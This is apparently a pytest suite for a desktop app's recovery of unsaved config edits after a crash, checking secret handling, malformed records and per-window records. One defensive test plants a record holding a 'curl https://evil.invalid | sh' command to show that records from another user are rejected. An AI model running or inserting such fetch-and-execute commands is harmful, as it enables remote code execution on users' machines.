"""Unsaved edits written down for a crash: what a record holds (never a secret's text), what
comes back from it, and what is ignored. Real files in a temporary state dir."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from msd_desktop.core.config import draft_recovery
from msd_desktop.core.config.draft import UNSET, ConfigDraft, InvalidInput
from msd_desktop.core.config.draft_recovery import (
    FORMAT,
    DraftRecovery,
    default_recovery_dir,
)
from tests.other_user import as_other_user, needs_root, shared_folder

SECRET = "sk-live-0123456789abcdef"
SECRET_KEY = "brave_search"  # one of the API-key fields


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "proj" / ".planning" / "config.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({"mode": "interactive", "zzz_custom": 1}, indent=2) + "\n",
                    encoding="utf-8")
    return path


@pytest.fixture
def recovery(tmp_path: Path) -> DraftRecovery:
    return DraftRecovery(tmp_path / "state" / "unsaved")


def test_the_secret_key_is_a_secret() -> None:
    from msd_desktop.core.config import schema

    assert schema.is_secret(SECRET_KEY)


def test_edits_come_back_as_pending_edits(config: Path, recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    draft.set("workflow.research", False)
    bad = InvalidInput("Must be a number.", "7x")
    draft.set("parallelization.max_concurrent_agents", bad)
    assert recovery.write(draft) == 0
    record = recovery.record_path(config)
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700

    fresh = ConfigDraft(config)  # the next run: the file as it is, nothing pending
    got = recovery.restore(fresh)
    assert got is not None
    assert set(got.keys) == {"mode", "workflow.research", "parallelization.max_concurrent_agents"}
    assert not got.file_changed
    assert fresh.value("mode") == "yolo"
    assert fresh.value("workflow.research") is False
    assert fresh.value("parallelization.max_concurrent_agents") == bad
    assert fresh.errors  # the text that was not a value still blocks Save
    assert json.loads(config.read_text(encoding="utf-8"))["mode"] == "interactive"  # unsaved
    assert recovery.configs() == [Path(os.path.abspath(config))]


def test_a_removal_comes_back(config: Path, recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", UNSET)
    recovery.write(draft)
    fresh = ConfigDraft(config)
    recovery.restore(fresh)
    assert fresh.is_pending("mode")
    assert "mode" not in fresh.result_data()


def test_a_secret_typed_into_the_form_never_reaches_the_disk(
        config: Path, recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    draft.set(SECRET_KEY, SECRET)
    assert recovery.write(draft) == 1
    raw = recovery.record_path(config).read_bytes()
    assert SECRET.encode() not in raw
    assert SECRET_KEY.encode() not in raw
    fresh = ConfigDraft(config)
    got = recovery.restore(fresh)
    assert got is not None
    assert got.keys == ["mode"]
    assert got.left_out == 1


def test_a_record_that_names_a_secret_is_not_believed(config: Path,
                                                      recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    recovery.write(draft)
    record = recovery.record_path(config)
    data = json.loads(record.read_text(encoding="utf-8"))
    data["edits"][SECRET_KEY] = {"value": SECRET}
    record.write_text(json.dumps(data), encoding="utf-8")
    fresh = ConfigDraft(config)
    recovery.restore(fresh)
    assert not fresh.is_pending(SECRET_KEY)


def test_nothing_pending_removes_the_record(config: Path, recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    recovery.write(draft)
    assert recovery.record_path(config).exists()
    draft.revert()
    recovery.write(draft)
    assert not recovery.record_path(config).exists()
    assert recovery.configs() == []


def test_a_file_changed_since_is_said(config: Path, recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    recovery.write(draft)
    config.write_text(json.dumps({"mode": "interactive", "commit_docs": True}) + "\n",
                      encoding="utf-8")
    fresh = ConfigDraft(config)
    got = recovery.restore(fresh)
    assert got is not None
    assert got.file_changed
    assert fresh.result_data()["commit_docs"] is True  # staged on top of the file as it is


@pytest.mark.parametrize("content", [
    b"not json", b"[]", b'{"format": "something-else/9", "path": "/x", "edits": {}}',
    b"\xff\xfe", b'{"format": "' + FORMAT.encode() + b'", "path": 3, "edits": {}}',
])
def test_anything_that_is_not_a_record_is_ignored(config: Path, recovery: DraftRecovery,
                                                  content: bytes) -> None:
    recovery.folder.mkdir(parents=True)
    recovery.record_path(config).write_bytes(content)
    assert recovery.configs() == []
    fresh = ConfigDraft(config)
    assert recovery.restore(fresh) is None
    assert not fresh.dirty


def test_a_record_under_another_files_name_is_ignored(config: Path, tmp_path: Path,
                                                      recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    recovery.write(draft)
    other = tmp_path / "other.json"
    os.replace(recovery.record_path(config), recovery.record_path(other))
    assert recovery.configs() == []


def test_a_fifo_in_the_folder_never_blocks(config: Path, recovery: DraftRecovery) -> None:
    recovery.folder.mkdir(parents=True)
    os.mkfifo(recovery.record_path(config))
    assert recovery.configs() == []
    assert recovery.restore(ConfigDraft(config)) is None


def test_the_folder_follows_the_environment(tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path), "XDG_STATE_HOME": str(tmp_path / "st")}
    assert default_recovery_dir(env) == tmp_path / "st" / "msd-desktop" / "unsaved"
    assert default_recovery_dir({"HOME": str(tmp_path)}) == (
        tmp_path / ".local" / "state" / "msd-desktop" / "unsaved")


# --- per window: two windows never overwrite each other's record ------------------------------


def _dead_pid() -> int:
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


def _other_window(recovery: DraftRecovery, pid: int, token: str) -> DraftRecovery:
    """The records of the window ``(pid, token)``: another process's."""
    return DraftRecovery(recovery.folder, window=(pid, token))


def test_a_record_names_and_carries_the_window_that_wrote_it(
        config: Path, recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    recovery.write(draft)
    pid, token = draft_recovery.this_window()
    record = recovery.record_path(config)
    assert record.name.endswith(f"-{pid}-{token}.json")
    assert json.loads(record.read_text("utf-8"))["window"] == {"pid": pid, "token": token}


def test_two_windows_killed_on_one_project_lose_neither_edit(
        config: Path, recovery: DraftRecovery) -> None:
    for key, value, token in (("mode", "yolo", "a" * 16), ("workflow.research", False, "b" * 16)):
        draft = ConfigDraft(config)
        draft.set(key, value)
        _other_window(recovery, _dead_pid(), token).write(draft)
    assert len(list(recovery.folder.iterdir())) == 2
    fresh = ConfigDraft(config)  # a new window, after both were killed
    got = recovery.restore(fresh)
    assert got is not None
    assert sorted(got.keys) == ["mode", "workflow.research"]
    assert recovery.configs() == [Path(os.path.abspath(config))]
    recovery.write(fresh)  # this window keeps them now; the two old records go
    assert [p.name for p in recovery.folder.iterdir()] == [recovery.record_path(config).name]
    recovery.forget(config)
    assert list(recovery.folder.iterdir()) == []


def test_a_running_windows_record_is_left_to_it(
        config: Path, recovery: DraftRecovery) -> None:
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        draft = ConfigDraft(config)
        draft.set("mode", "yolo")
        _other_window(recovery, other.pid, "c" * 16).write(draft)
        assert recovery.configs() == []
        assert recovery.restore(ConfigDraft(config)) is None
    finally:
        other.kill()
        other.wait()
    got = recovery.restore(ConfigDraft(config))  # that window has gone now
    assert got is not None
    assert got.keys == ["mode"]


def test_a_project_whose_path_is_not_utf8_gets_a_record(tmp_path: Path,
                                                         recovery: DraftRecovery) -> None:
    folder = tmp_path / os.fsdecode(b"caf\xe9")
    (folder / ".planning").mkdir(parents=True)
    config = folder / ".planning" / "config.json"
    config.write_text("{}\n", "utf-8")
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    recovery.write(draft)
    assert recovery.configs() == [config]
    got = recovery.restore(ConfigDraft(config))
    assert got is not None
    assert got.keys == ["mode"]


# --- records that are not ours ----------------------------------------------------------------


@needs_root
def test_a_record_planted_by_another_user_in_a_shared_folder_is_ignored(
        tmp_path: Path) -> None:
    config = tmp_path / "proj" / ".planning" / "config.json"
    config.parent.mkdir(parents=True)
    config.write_text("{}\n", "utf-8")
    with shared_folder() as shared:  # XDG_STATE_HOME pointing at a shared 1777 folder
        folder = shared / "msd-desktop" / "unsaved"
        record = {"format": FORMAT, "path": str(config), "saved_at": 1.0, "base_sha256": None,
                  "left_out": 0, "edits": {"workflow.code_review_command":
                                           {"value": "curl https://evil.invalid | sh"}}}
        name = DraftRecovery(folder).record_path(config).name.split("-")[0] + ".json"
        as_other_user(
            "import os, sys; os.umask(0); os.makedirs(sys.argv[1], 0o777);"
            "open(os.path.join(sys.argv[1], sys.argv[2]), 'w').write(sys.argv[3])",
            str(folder), name, json.dumps(record))
        recovery = DraftRecovery(folder)
        assert recovery.configs() == []
        draft = ConfigDraft(config)
        assert recovery.restore(draft) is None
        assert not draft.dirty
        assert "belongs to another user (uid 65534)" in (recovery.problem or "")
        draft.set("mode", "yolo")
        with pytest.raises(OSError, match="belongs to another user"):
            recovery.write(draft)


def test_a_record_owned_by_another_user_in_our_folder_is_ignored(
        config: Path, recovery: DraftRecovery) -> None:
    draft = ConfigDraft(config)
    draft.set("mode", "yolo")
    _other_window(recovery, _dead_pid(), "d" * 16).write(draft)
    (record,) = recovery.folder.iterdir()
    if os.geteuid() != 0:
        pytest.skip("giving a file to another user needs root")
    os.chown(record, 65534, 65534)
    assert recovery.restore(ConfigDraft(config)) is None
    assert "belongs to another user (uid 65534)" in (recovery.problem or "")
